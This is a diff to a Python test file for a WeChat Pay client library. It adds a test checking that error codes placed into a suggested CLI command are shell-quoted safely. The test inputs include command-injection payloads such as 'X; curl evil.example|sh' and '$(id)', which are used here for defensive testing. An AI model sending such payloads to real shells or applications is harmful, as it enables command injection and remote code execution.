@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import json
+import shlex
 from typing import Any
 
 import pytest
 
 from tests.diagnosis import corpus
-from wechatpay_chain import ConfigurationError, Headers, Response
+from wechatpay_chain import APIError, ConfigurationError, Headers, Response
+from wechatpay_chain.cli.call import shown
+from wechatpay_chain.cli.failure import Failure
 from wechatpay_chain.diagnosis import checkup
 from wechatpay_chain.diagnosis.explanation import explain
 from wechatpay_chain.diagnosis.meanings import meaning
@@ -135,3 +138,14 @@ def test_a_server_may_say_any_date(date: str) -> None:
 @pytest.mark.parametrize("key", [*NUMBERS, "\ud800", "X" * 10_000], ids=lambda key: ascii(key)[:30])
 def test_any_code_may_be_asked_for(key: str) -> None:
     assert meaning(key) is None
+
+
+@pytest.mark.parametrize("code", ["X; curl evil.example|sh", "$(id)", "`id`", "a b", "--help'"])
+def test_a_command_to_copy_runs_nothing_else(code: str) -> None:
+    error = APIError("no", Response(400), code=code)
+    command = ["wechatpay-chain", "doctor", "error", code]
+    for check in (checkup.signed_call(error), checkup.v2_call(error)):
+        assert shlex.split(check.action) == command
+    with pytest.raises(Failure) as caught:
+        shown.result(error, None, None, reveal=False, output="text")
+    assert shlex.split(caught.value.hints[0])[3:] == command
